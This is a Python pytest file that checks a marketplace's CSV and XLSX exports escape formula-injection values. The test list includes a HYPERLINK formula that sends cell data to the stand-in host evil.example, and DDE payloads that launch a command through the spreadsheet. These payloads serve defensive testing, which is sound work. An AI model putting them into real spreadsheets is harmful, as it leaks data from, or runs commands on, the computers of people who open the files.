"""Spreadsheets the project writes never carry a live formula (OWASP "CSV injection")."""

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.spreadsheets import csv_response, safe_cell, xlsx_response

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_starts_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Mật ong", "150.000", "a=b", "", 42, -3, 2.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_csv_download_has_a_bom_and_no_cell_starting_a_formula():
    response = csv_response(filename="x.csv", header=["Dòng", "sku"], rows=[[2, text] for text in FORMULAS])

    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = list(csv.reader(io.StringIO(body[1:])))
    assert rows[0] == ["Dòng", "sku"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert [row[0] for row in rows[1:]] == ["2"] * len(FORMULAS)


def test_an_xlsx_download_holds_text_never_formulas():
    response = xlsx_response(filename="x.xlsx", header=["Dòng", "sku"], rows=[[2, text] for text in FORMULAS])

    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Dòng", "sku")
    # XML reads a carriage return back as a line feed
    assert [row[1] for row in rows[1:]] == ["'" + text.replace("\r", "\n") for text in FORMULAS]
    assert [row[0] for row in rows[1:]] == [2] * len(FORMULAS)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
